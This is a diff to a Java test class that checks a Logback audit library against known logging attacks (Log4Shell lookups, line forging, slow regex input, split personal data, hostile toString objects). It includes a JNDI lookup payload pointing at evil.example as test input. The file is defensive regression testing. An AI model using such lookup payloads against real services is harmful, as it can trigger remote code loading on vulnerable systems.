@@ -2,7 +2,9 @@ package dev.tacit.audit.logback;
 
 import static java.nio.charset.StandardCharsets.UTF_8;
 import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatCode;
 
+import ch.qos.logback.classic.Logger;
 import ch.qos.logback.classic.encoder.JsonEncoder;
 import ch.qos.logback.classic.encoder.PatternLayoutEncoder;
 import dev.tacit.audit.logback.LogbackFixture.Sink;
@@ -21,10 +23,14 @@ import java.util.stream.Stream;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.EnumSource;
 import org.junit.jupiter.params.provider.ValueSource;
 import org.slf4j.helpers.BasicMarkerFactory;
 
-/** What attackers have done to logging libraries; each ends at this one. */
+/**
+ * What attackers have done to logging libraries; each ends at this one. L1 lookups, L2 lookups of themselves, L3 forged
+ * lines, L4 malformed output, L5 slow patterns, L6 data in pieces, L7 hostile objects, L8 configurations.
+ */
 class AttacksTest {
     private final LogbackFixture logback = new LogbackFixture();
     private final Sink sink = logback.sink("SINK");
@@ -36,7 +42,7 @@ class AttacksTest {
 
     /** CVE-2021-44228, CVE-2021-45046. */
     @Test
-    void lookupInAnyPart_staysLiteralText() {
+    void l1_lookupInAnyPart_staysLiteralText() {
         String lookup = "${jndi:ldap://evil.example/a}";
         logback.mdc.put(lookup, lookup);
         logback.log
@@ -53,7 +59,7 @@ class AttacksTest {
 
     /** CVE-2021-45105. */
     @Test
-    void selfReferentialLookup_isNotInterpolated() {
+    void l2_selfReferentialLookup_isNotInterpolated() {
         logback.log.info("${a:${a}}");
         assertThat(sink.line()).isEqualTo("${a:${a}}");
         logback.log.info("${".repeat(500_000));
@@ -63,7 +69,7 @@ class AttacksTest {
     @ParameterizedTest
     @ValueSource(
             strings = {"\r\n", "\n", "\u0085", "\u2028", "\u2029", "\u001b[2J", "\u202e", "\0", "\ud800", "\ufffe"})
-    void characterThatForgesALine_isEscapedInEveryPart(String forger) {
+    void l3_characterThatForgesALine_isEscapedInEveryPart(String forger) {
         String text = "a" + forger + "b";
         logback.mdc.put("k", text);
         logback.log.info(text);
@@ -81,7 +87,7 @@ class AttacksTest {
 
     /** CVE-2026-34480, CVE-2026-34481 in other layouts. */
     @Test
-    void structuredOutput_parsesStrictly() {
+    void l4_structuredOutput_parsesStrictly() {
         logback.mdc.put("q\"", "\u0001\"\\ \uffff");
         logback.log
                 .atWarn()
@@ -99,7 +105,7 @@ class AttacksTest {
 
     @ParameterizedTest
     @ValueSource(strings = {"a@", "@", "1", "4111 ", "1.", "+1", "a.b@c.", "::", "(a+)+", "\n"})
-    void timeGrowsLinearlyWithTheText(String bait) {
+    void l5_timeGrowsLinearlyWithTheText(String bait) {
         Scrubber scrubber = Scrubber.withLabels(Shop.schemas());
         long small = nanos(scrubber, bait.repeat(16_000 / bait.length()));
         long large = nanos(scrubber, bait.repeat(64_000 / bait.length()));
@@ -120,7 +126,7 @@ class AttacksTest {
     }
 
     @Test
-    void personalDataSplitOrEncoded_isHidden() {
+    void l6_personalDataSplitOrEncoded_isHidden() {
         logback.log.info("{}@{}", "ann", "x.org");
         logback.log.info("{}{}", "4111 1111 ", "1111 1111");
         logback.log.info("{}", List.of(List.of(Shop.annsOrder()), "ann%40x.org"));
@@ -134,16 +140,68 @@ class AttacksTest {
 
     /** Listed in docs/log-scrubbing.md as not covered; if one is found some day, the list is to be shortened. */
     @Test
-    void encodingsThatAreListedAsNotCovered_areNotFound() {
+    void l6_encodingsThatAreListedAsNotCovered_areNotFound() {
         for (String encoded : List.of("YW5uQHgub3Jn", "616e6e40782e6f7267", "ann at x dot org")) {
             logback.log.info(encoded);
             assertThat(sink.line()).isEqualTo(encoded);
         }
     }
 
+    /** {@link WithheldEventTest} goes through more of them. */
+    @ParameterizedTest
+    @EnumSource(Hostile.class)
+    void l7_hostileToString_endsHereAndShowsNothing(Hostile hostile) {
+        assertThatCode(() -> logback.log.error(
+                        "this is {} of ann@x.org", hostile.object(logback.log), new Exception("ann@x.org")))
+                .doesNotThrowAnyException();
+        assertThat(sink.events).hasSizeBetween(1, 3);
+        assertThat(sink.line()).hasSizeLessThanOrEqualTo(64 * 1024);
+        assertThat(sink.written()).doesNotContain("ann@x.org");
+    }
+
+    /** What a text can do to who asks for it. */
+    enum Hostile {
+        THROWS {
+            @Override
+            String text(Object self, Logger log) {
+                throw new IllegalStateException("ann@x.org");
+            }
+        },
+        ENDS_NEVER {
+            @Override
+            String text(Object self, Logger log) {
+                return "ann@x.org" + self + self;
+            }
+        },
+        IS_HUGE {
+            @Override
+            String text(Object self, Logger log) {
+                return "ann@x.org ".repeat(1_000_000);
+            }
+        },
+        LOGS_ITSELF {
+            @Override
+            String text(Object self, Logger log) {
+                log.error("I am {} of ann@x.org", self);
+                return "me, ann@x.org";
+            }
+        };
+
+        abstract String text(Object self, Logger log);
+
+        Object object(Logger log) {
+            return new Object() {
+                @Override
+                public String toString() {
+                    return text(this, log);
+                }
+            };
+        }
+    }
+
     /** CVE-2023-6378, CVE-2024-12798, CVE-2024-12801, CVE-2025-11226 came in through evaluators, receivers and XML. */
     @Test
-    void scrubber_bringsNoEvaluatorReceiverOrXml() throws IOException, URISyntaxException {
+    void l8_scrubber_bringsNoEvaluatorReceiverOrXml() throws IOException, URISyntaxException {
         Path classes = Path.of(Scrubbing.class
                 .getProtectionDomain()
                 .getCodeSource()
